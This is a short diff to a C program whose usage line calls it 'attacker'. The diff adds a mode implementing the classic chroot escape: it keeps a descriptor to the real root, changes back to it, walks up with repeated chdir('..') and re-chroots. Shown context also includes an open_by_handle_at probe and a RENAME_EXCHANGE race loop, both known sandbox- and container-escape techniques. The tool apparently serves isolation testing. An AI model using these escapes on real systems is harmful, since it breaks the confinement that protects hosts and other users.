@@ -174,10 +174,19 @@ int main(int argc, char **argv) {
     puts(open_by_handle_at(mount, &root.head, O_RDONLY) < 0 ? strerrorname_np(errno) : "opened");
     return 0;
   }
+  if (argc == 2 && !strcmp(argv[1], "chroot")) {
+    int outside = open("/", O_RDONLY | O_DIRECTORY);
+    mkdir("/tmp/below", 0700);
+    if (chroot("/tmp/below") || fchdir(outside)) { perror("chroot"); return 1; }
+    for (int i = 0; i < 64; i++) chdir("..");
+    chroot(".");
+    execl("/bin/ls", "ls", "/", (char *)0);
+    return 1;
+  }
   if (argc == 2 && !strcmp(argv[1], "stop")) stop();
   if (argc == 4 && !strcmp(argv[1], "swap")) {
     for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
   }
-  fputs("attacker trace|hold|handle|stop|swap A B\n", stderr);
+  fputs("attacker trace|hold|handle|chroot|stop|swap A B\n", stderr);
   return 2;
 }
